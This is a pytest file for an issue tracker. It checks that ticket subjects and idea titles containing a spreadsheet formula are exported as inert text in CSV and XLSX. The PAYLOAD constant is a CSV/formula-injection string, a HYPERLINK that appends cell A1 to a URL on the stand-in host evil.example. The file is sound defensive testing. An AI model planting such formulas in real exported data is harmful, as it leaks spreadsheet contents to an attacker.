"""A formula typed into a ticket subject is exported as text, in CSV and in XLSX read back with openpyxl."""
import csv
import io

from openpyxl import load_workbook

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'


def test_a_formula_subject_is_text_in_csv_and_xlsx(client, make, login):
    member = make.user()
    wg = make.wg(members={member: "メンバー"})
    ticket = make.ticket(wg, member, subject=PAYLOAD, estimated_hours=2.5)
    login(member)
    text = client.get(f"/issues.csv?project_id={wg.identifier}&c=subject&c=estimated_hours").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + PAYLOAD] in [[c for c in row if PAYLOAD in c] for row in rows]
    assert not any(c.startswith("=") for row in rows for c in row)

    data = client.get(f"/issues.xlsx?project_id={wg.identifier}&c=subject&c=estimated_hours").data
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    subject = next(c for c in cells if c.value == PAYLOAD)
    assert subject.data_type == "s"  # a string, not a formula
    assert not any(c.data_type == "f" for c in cells)
    assert any(c.value == ticket.id and c.data_type == "n" for c in cells)  # ids stay numbers


def test_a_formula_idea_title_is_text_in_the_idea_export(client, make, login):
    make.idea(title=PAYLOAD, kind="idea")
    login(make.user())
    sheet = load_workbook(io.BytesIO(client.get("/ideas/export.xlsx").get_data())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert any(c.value == PAYLOAD and c.data_type == "s" for c in cells)
    assert not any(c.data_type == "f" for c in cells)
